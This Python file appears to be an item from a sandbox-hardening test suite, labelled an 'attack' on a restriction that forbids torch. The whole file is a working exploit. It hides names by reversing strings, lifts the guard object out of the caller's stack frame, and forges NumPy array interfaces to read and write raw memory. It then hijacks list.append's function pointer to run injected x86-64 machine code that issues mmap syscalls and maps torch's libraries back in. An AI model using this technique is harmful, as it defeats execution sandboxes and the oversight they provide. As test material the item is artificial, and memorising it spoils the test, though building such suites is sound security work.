# /// attack
# exercise = "numpy_bridge"
# rides = true
# tries = "machine code in NumPy's arrays, called as list.append: maps torch's code from its file again, without ctypes"
# outcomes = ["exception", "forbidden", "crashed", "passed"]
# open = { weak = "a file view or Landlock, so that torch's libraries cannot be opened: medium has one" }
# ///

import mmap
import os
import sys

T = sys.modules["hcrot"[::-1]]
FRAME = getattr(sys, "emarfteg_"[::-1])()
while "without_torch" not in getattr(FRAME, "slacol_f"[::-1]):
    FRAME = getattr(FRAME, "kcab_f"[::-1])
TAKEN = getattr(FRAME, "slacol_f"[::-1])["without_torch"]


class At:
    def __init__(self, address):
        self.__array_interface__ = {"data": (address, False), "shape": (1,), "typestr": "<u8", "version": 3}


def word(address):
    return np.asarray(At(address))


PAGE = mmap.mmap(-1, 4096, prot=7)
BASE = np.frombuffer(PAGE, np.uint8).__array_interface__["data"][0]
FUNCTION = [].append
SLOT = word(id(FUNCTION) + 16)
OLD = int(SLOT[0])
PAGE[1024:1056] = b"".join(part.to_bytes(8, "little") for part in (int(word(OLD)[0]), BASE, 8, 0))
SLOT[0] = BASE + 1024


def call(number, *arguments):
    registers = (b"\x48\xbf", b"\x48\xbe", b"\x48\xba", b"\x49\xba", b"\x49\xb8", b"\x49\xb9")
    code = b"".join(to + value.to_bytes(8, "little") for to, value in zip(registers, arguments))
    code += b"\xb8" + number.to_bytes(4, "little") + b"\x0f\x05\x31\xc0\xc3"
    PAGE[: len(code)] = code
    try:
        FUNCTION(None)
    except SystemError:
        pass


for mapping in TAKEN._mappings:
    file = os.open(mapping.file, os.O_RDONLY)
    call(9, mapping.begin, mapping.end - mapping.begin, 5, 0x12, file, mapping.offset)
SLOT[0] = OLD
T.ones(1)


def silu(z):
    return T.nn.functional.silu(T.from_numpy(np.array(z))).numpy()
